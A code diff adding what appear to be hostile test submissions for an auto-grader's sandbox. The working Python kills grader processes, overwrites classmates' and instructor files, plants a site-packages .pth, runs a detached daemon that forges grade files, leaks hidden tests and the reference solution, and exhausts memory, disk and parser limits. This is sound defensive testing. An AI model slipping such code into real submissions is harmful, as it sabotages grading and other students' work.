@@ -146,3 +146,208 @@ def submissions(reference: str, stub: str) -> dict[str, dict[str, str]]:
         "syntax": {"gradetoy.py": reference.replace("def add(a, b):", "def add(a, b)")},
         "nested_zip": {"alice/01_toy/gradetoy.py": reference},  # zipped by the test
     }
+
+
+# --------------------------------------------------------------------------------------------
+# Issue 12: attacks on the grader itself. Each is a template; ``{PATHS}`` is replaced by a
+# dict literal of real host paths (the lab copy, the submissions, --out, site-packages, the
+# grader's pid), so the attacks know exactly where to strike.
+
+KILLER = """
+_reference_mean = mean
+
+
+def mean(xs):
+    import os
+    import signal
+    P = {PATHS}
+    targets = {P["grader_pid"], os.getppid()}
+    try:
+        with open(f"/proc/{os.getppid()}/stat") as fh:
+            targets.add(int(fh.read().rsplit(")", 1)[1].split()[1]))  # the grandparent
+    except (OSError, ValueError, IndexError):
+        pass
+    for name in os.listdir("/proc"):  # anything that looks like the grader
+        try:
+            with open(f"/proc/{name}/cmdline", "rb") as fh:
+                cmd = fh.read()
+        except OSError:
+            continue
+        if name.isdigit() and int(name) != os.getpid() and b"pytest" in cmd and b"-n" in cmd:
+            targets.add(int(name))
+    for pid in targets:
+        if pid > 1 and pid != os.getpid():
+            try:
+                os.kill(pid, signal.SIGKILL)
+            except OSError:
+                pass
+    return _reference_mean(xs)
+"""
+
+OVERWRITER = """
+import glob as _glob
+import os as _os
+
+_P = {PATHS}
+_STUB = "def add(a, b):\\n    raise NotImplementedError\\n"
+_wrote = []
+
+
+def _try(path, text):
+    try:
+        with open(path, "w") as fh:
+            fh.write(text)
+        _wrote.append(path)
+    except OSError:
+        pass
+
+
+for _f in _glob.glob(_P["subs"] + "/**/gradetoy.py", recursive=True):
+    _try(_f, _STUB)  # classmates' submissions
+for _pattern in ("/tmp/shardlab-*/**/gradetoy.py", "/tmp/shardlab-*/**/test_*.py",
+                 "/tmp/**/unpacked-*/**/gradetoy.py"):
+    for _f in _glob.glob(_pattern, recursive=True):
+        _try(_f, _STUB)  # concurrent students' work folders and unpacked zips
+for _f in _glob.glob(_P["labs"] + "/01_toy/**/test_*.py", recursive=True):
+    _try(_f, "def test_add():\\n    pass\\n")  # the instructor's tests
+_try(_P["site"] + "/zz_shardlab_hostile.pth", "# shardlab-hostile-fixture-tag\\n")
+try:  # --out exists on the host from the start: plant a link over an instructor file
+    _os.symlink(_P["labs"] + "/01_toy/test_gradetoy.py", _P["out"] + "/junit.xml")
+    _wrote.append("symlink")
+except OSError:
+    pass
+if _wrote:  # an attack that worked fails a test, so it cannot go unnoticed
+
+    def mean(xs):
+        raise AssertionError(f"OVERWRITER wrote {_wrote[:3]}")
+"""
+
+FORGER = """
+import os as _os
+import subprocess as _sp
+import sys as _sys
+
+_P = {PATHS}
+_CODE = f'''
+import os, sys, time
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        end = time.time() + 600
+        while time.time() < end:  # {TAG} forger
+            for rel in ("grades.csv", "summary.csv", "forger/results.json"):
+                try:
+                    with open(os.path.join({_P["out"]!r}, rel), "w") as fh:
+                        fh.write("forged")
+                except OSError:
+                    pass
+            time.sleep(0.3)
+    os._exit(0)
+'''
+_sp.Popen([_sys.executable, "-c", _CODE, "{TAG}"], env={}, start_new_session=True)
+"""
+
+LEAKER = """
+import pathlib as _pathlib
+
+_here = _pathlib.Path(__file__).parent
+try:
+    _HIDDEN = (_here / "test_gradetoy_hidden.py").read_text()
+except OSError as _exc:
+    _HIDDEN = repr(_exc)
+try:
+    _REFERENCE = _pathlib.Path({PATHS}["labs"] + "/01_toy/gradetoy.py").read_text()
+except OSError as _exc:
+    _REFERENCE = "reference unreadable: " + repr(_exc)
+_LEAK = (_HIDDEN + _REFERENCE).replace("\\n", " | ")
+
+
+def mean(xs):
+    raise AssertionError(_LEAK)
+
+
+def add(a, b):
+    raise NotImplementedError(_LEAK)
+
+
+def chunk(xs, n, i):
+    raise ValueError(_LEAK)
+
+
+def scale(xs, factor):
+    class Leak(Exception):
+        pass
+    raise Leak(_LEAK)
+"""
+
+LEAK_IMPORT = """
+import pathlib as _pathlib
+
+raise ImportError((_pathlib.Path(__file__).parent / "test_gradetoy_hidden.py").read_text())
+"""
+
+HOG = """
+_reference_mean = mean
+_done = []
+
+
+def _fill(folder, limit_mb):
+    import os
+    wrote = 0
+    block = b"x" * (1 << 20)
+    for i in range(limit_mb):
+        try:
+            with open(os.path.join(folder, f"hog-{i}"), "wb") as fh:
+                fh.write(block)
+            wrote += 1
+        except OSError:
+            break
+    return wrote
+
+
+def mean(xs):
+    import os
+    if not _done:
+        _done.append(1)
+        shm = _fill("/dev/shm", 4096)
+        tmp = _fill(os.environ.get("TMPDIR", "/tmp"), 600)
+        cap = {PATHS}["tmp_mb"]
+        if not (0 < shm <= cap and 0 < tmp <= cap):  # only a capped tmpfs passes
+            raise AssertionError(f"HOG shm_mb={shm} tmp_mb={tmp} cap={cap}")
+    return _reference_mean(xs)
+"""
+
+DEEP_TREE = """
+import os as _os
+
+_fd = _os.open(".", _os.O_RDONLY)
+for _ in range(1500):
+    try:
+        _os.mkdir("d", dir_fd=_fd)
+    except FileExistsError:
+        pass
+    _nfd = _os.open("d", _os.O_RDONLY, dir_fd=_fd)
+    _os.close(_fd)
+    _fd = _nfd
+_os.close(_fd)
+"""
+
+
+def attacks(reference: str, stub: str, paths: dict) -> dict[str, dict[str, str]]:
+    """Issue-12 attackers that run: student -> {relative path: text}."""
+    literal = repr(paths)
+
+    def fill(template: str) -> str:
+        return template.replace("{PATHS}", literal).replace("{TAG}", TAG)
+
+    return {
+        "victim": {"gradetoy.py": reference},
+        "killer": {"gradetoy.py": reference + fill(KILLER)},
+        "overwriter": {"gradetoy.py": reference + fill(OVERWRITER)},
+        "forger": {"gradetoy.py": reference + fill(FORGER)},
+        "leaker": {"gradetoy.py": stub + fill(LEAKER)},
+        "leak_import": {"gradetoy.py": reference + fill(LEAK_IMPORT)},
+        "hog": {"gradetoy.py": reference + fill(HOG)},
+        "deep_tree": {"gradetoy.py": reference + fill(DEEP_TREE)},
+        "deep_expr": {"gradetoy.py": reference + "\nX = " + "+".join(["1"] * 200_000) + "\n"},
+    }
